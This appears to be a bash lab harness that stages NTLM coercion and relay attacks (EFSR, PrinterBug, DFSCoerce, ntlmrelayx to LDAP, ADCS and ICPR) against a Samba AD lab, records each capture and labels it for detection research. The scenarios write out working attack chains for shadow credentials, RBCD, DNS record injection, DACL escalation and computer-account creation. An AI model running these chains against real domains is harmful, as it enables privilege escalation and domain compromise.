# Relays with the write at their end, and writes without a relay: one function records one capture.

CHAIN=("${COERCED_HERE[@]}" family=chain)
USER_CHAIN=(malicious=yes attacker=$EVIL victim=$WS1 listener=$EVIL family=chain)
WEAK_LDAP=(expect=relay:smb-ldap)
COERCED_SMB=(expect=coercion:efsr expect=callback:smb)

FILE_SERVER=${FILES_NAME^^}\$

# rights on|off: whether the victim's machine account may write everywhere in the directory
rights() {
  local change=addmembers
  [ "$1" = on ] || change=removemembers
  in_host dc1 samba-tool group $change 'Domain Admins' "$MACHINE" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
}

machine_of_dc() { in_host dc1 samba-tool computer delete "$1" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true; }

forget_name() {
  in_host dc1 samba-tool dns delete "$DC_FQDN" "$DNS_DOMAIN" "$1" A "$2" -U "Administrator%$ADMIN_PW" \
    -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
  # The server does not always know yet of a name that came by LDAP.
  ldbdel -H "$STATE/dc1/private/sam.ldb" "DC=$1,DC=$DNS_DOMAIN,CN=MicrosoftDNS,DC=DomainDnsZones,$BASE_DN" > /dev/null 2>&1 || true
}

# KeyCredentialLink

SHADOW=(--shadow-credentials --no-dump --no-da --no-acl --pfx-password lab)

scenario_chain_shadow_credentials() {
  rights on
  callback_with impacket
  record chain_shadow_credentials
  relay_on smb -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$MACHINE" --remove-mic
  efs_call
  relay_settles 6
  truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:msDS-KeyCredentialLink \
    expect=chain "$IMPACKET_TOOLS" \
    notes="Coerced over SMB, relayed to LDAP, and a key added to the victim's own account."
  rights off
}

scenario_chain_shadow_webdav() {
  rights on
  record chain_shadow_webdav
  relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$MACHINE"
  machine_webdav $EVIL
  relay_settles 6
  truth "${CHAIN[@]}" target=$DC expect=relay:webdav-ldap expect=webdav expect=ldap-write:msDS-KeyCredentialLink \
    "$CURL_TOOLS" notes="The same over WebDAV, where nothing has to be stripped. The call that caused it is not in the capture."
  rights off
}

scenario_chain_shadow_user() {
  record chain_shadow_user
  relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$FILE_SERVER"
  bob_http "http://$EVIL/"
  relay_settles 6
  truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:msDS-KeyCredentialLink "$CURL_TOOLS" \
    notes="An administrator's web logon is relayed, and a key added to a file server's account."
}

bob_http() { quietly_on ws1 curl -sS --max-time 12 -o /dev/null --ntlm -u "$DOMAIN\\$BOB:$BOB_PW" "$@"; }

# Resource-based constrained delegation

RBCD=(--delegate-access --escalate-user "$FILE_SERVER" --no-dump --no-da --no-acl)

scenario_chain_rbcd() {
  rights on
  callback_with impacket
  record chain_rbcd
  relay_on smb -t "ldap://$DC" "${RBCD[@]}" --remove-mic
  efs_call
  relay_settles 6
  truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" \
    expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity expect=chain "$IMPACKET_TOOLS" \
    notes="Coerced over SMB, relayed to LDAP, and another account allowed to act for everybody at the victim."
  rights off
}

scenario_chain_rbcd_webdav() {
  rights on
  record chain_rbcd_webdav
  relay_on http -t "ldap://$DC" "${RBCD[@]}"
  machine_webdav $EVIL
  relay_settles 6
  truth "${CHAIN[@]}" target=$DC expect=relay:webdav-ldap expect=webdav \
    expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity "$CURL_TOOLS" notes="The same over WebDAV."
  rights off
}

scenario_chain_rbcd_http() {
  rights on
  record chain_rbcd_http
  relay_on http -t "ldap://$DC" "${RBCD[@]}"
  machine_http "http://$EVIL/wpad.dat" -A 'WinHttp-Autoproxy-Service/5.1'
  relay_settles 6
  truth "${CHAIN[@]}" target=$DC expect=relay:http-ldap \
    expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity "$CURL_TOOLS" \
    notes="A machine's logon at a web server that hands out proxy settings, relayed to LDAP."
  rights off
}

# Names

DNS_NODE=(--no-dump --no-da --no-acl --no-validate-privs --add-dns-record)

scenario_chain_dns_node() {
  rights on
  callback_with impacket
  record chain_dns_node
  relay_on smb -t "ldap://$DC" "${DNS_NODE[@]}" intranet $EVIL --remove-mic
  efs_call
  relay_settles 6
  truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:dnsnode \
    expect=follow-up:adidns expect=chain "$IMPACKET_TOOLS" notes="A name that points to the attacker, over the relayed session."
  rights off
  forget_name intranet $EVIL
}

scenario_chain_dns_node_http() {
  record chain_dns_node_http
  relay_on http -t "ldap://$DC" "${DNS_NODE[@]}" reports $EVIL
  bob_http "http://$EVIL/"
  relay_settles 6
  truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:dnsnode expect=follow-up:adidns "$CURL_TOOLS" \
    notes="A user's web logon, relayed; the name is added."
  forget_name reports $EVIL
}

scenario_chain_dns_node_direct() {
  record chain_dns_node_direct
  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode printserver $EVIL
  quietly_on ws1 nslookup "printserver.$DNS_DOMAIN" $DC
  user_smb "printserver.$DNS_DOMAIN"
  truth malicious=yes attacker=$EVIL family=chain expect=ldap-write:dnsnode expect=follow-up:adidns \
    tools="ldap3 2.9.1" notes="No relay: any account may add a name to the zone. A client asks for it and then knocks at the attacker's host, where nobody listens."
  forget_name printserver $EVIL
}

# Access control

DACL=(--no-dump --no-da --escalate-user $ALICE)

scenario_chain_dacl() {
  rights on
  callback_with impacket
  record chain_dacl
  relay_on smb -t "ldap://$DC" "${DACL[@]}" --remove-mic
  efs_call
  relay_settles 8
  truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:nTSecurityDescriptor \
    expect=chain "$IMPACKET_TOOLS" notes="The right to replicate, given to a user by a write of the domain's security descriptor."
  rights off
}

scenario_chain_dacl_http() {
  record chain_dacl_http
  relay_on http -t "ldap://$DC" "${DACL[@]}"
  bob_http "http://$EVIL/"
  relay_settles 8
  truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:nTSecurityDescriptor "$CURL_TOOLS" \
    notes="The same with an administrator's web logon."
}

scenario_chain_dacl_webdav() {
  rights on
  record chain_dacl_webdav
  relay_on http -t "ldap://$DC" "${DACL[@]}"
  machine_webdav $EVIL
  relay_settles 8
  truth "${CHAIN[@]}" target=$DC expect=relay:webdav-ldap expect=webdav expect=ldap-write:nTSecurityDescriptor \
    "$CURL_TOOLS" notes="The same over WebDAV."
  rights off
}

# Computers. ntlmrelayx adds one only inside TLS, so the write is made through its SOCKS port.

through_socks() { # LDAP write on the relayed session of an account
  quietly_on evil "$CLIENTS/python" "$HERE/socks_write.py" "$@"
}

scenario_chain_computer() {
  rights on
  callback_with impacket
  record chain_computer
  relay_on smb -t "ldap://$DC" -socks --remove-mic
  efs_call
  sleep 3
  through_socks "$MACHINE" RELAYED1
  sleep 2
  truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:computer expect=chain \
    tools="$IMPACKET_CALL, ldap3 2.9.1" notes="A computer account is added over the relayed session, in clear and therefore without a password."
  rights off
  machine_of_dc RELAYED1
}

scenario_chain_computer_http() {
  record chain_computer_http
  relay_on http -t "ldap://$DC" -socks
  user_http "http://$EVIL/"
  sleep 3
  through_socks $ALICE RELAYED2
  sleep 2
  truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:computer \
    tools="$IMPACKET_CALL, ldap3 2.9.1" notes="Any user may add computers: a user's web logon, relayed."
  machine_of_dc RELAYED2
}

scenario_chain_computer_direct() {
  record chain_computer_direct
  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE computer ATTACKER1
  truth malicious=yes attacker=$EVIL family=chain expect=ldap-write:computer tools="ldap3 2.9.1" \
    notes="No relay: a computer account added with a user's own password over an unsigned NTLM bind."
  machine_of_dc ATTACKER1
}

# Four hosts: who calls, who is called, who listens and relays, who is the target

scenario_chain_four_hosts_adcs() {
  callback_with libsmbclient
  record chain_four_hosts_adcs
  RELAY_HOST=drop relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  efs_call "\\\\$DROP\\share\\file.txt"
  sleep 4
  truth malicious=yes attacker=$EVIL also=attacker:$DROP victim=$SRV listener=$DROP target=$CA family=chain "${COERCED_SMB[@]}" \
    expect=relay:smb-http expect=adcs-enrollment expect=chain "$IMPACKET_TOOLS" \
    notes="The caller is not the listener, and the listener is not the target: the certificate is issued to the victim's account."
}

scenario_chain_four_hosts_icpr() {
  callback_with libsmbclient
  record chain_four_hosts_icpr
  RELAY_HOST=drop relay_on smb -t "rpc://$CA" -rpc-mode ICPR -icpr-ca-name 'lab-CA'
  call "ncacn_np:$SRV[\\pipe\\spoolss]" RpcRemoteFindFirstPrinterChangeNotificationEx "\\\\$DROP" --level 2
  relay_settles 5
  truth malicious=yes attacker=$EVIL also=attacker:$DROP victim=$SRV listener=$DROP target=$CA family=chain expect=coercion:rprn \
    expect=callback:smb expect=relay:smb-rpc expect=icpr-enrollment expect=chain "$IMPACKET_TOOLS" \
    notes="PrinterBug, and the certificate authority's RPC interface at level CONNECT."
}

scenario_chain_four_hosts_smb() {
  callback_with libsmbclient
  record chain_four_hosts_smb
  RELAY_HOST=drop relay_on smb -t "smb://$FILES"
  call "ncacn_np:$SRV[\\pipe\\netdfs]" NetrDfsRemoveStdRoot "$DROP"
  sleep 4
  truth malicious=yes attacker=$EVIL also=attacker:$DROP victim=$SRV listener=$DROP target=$FILES family=chain expect=coercion:dfsnm \
    expect=callback:smb expect=relay:smb-smb expect=chain "$IMPACKET_TOOLS" \
    notes="DFSCoerce, and a file server on which the machine account then tries the service manager."
}
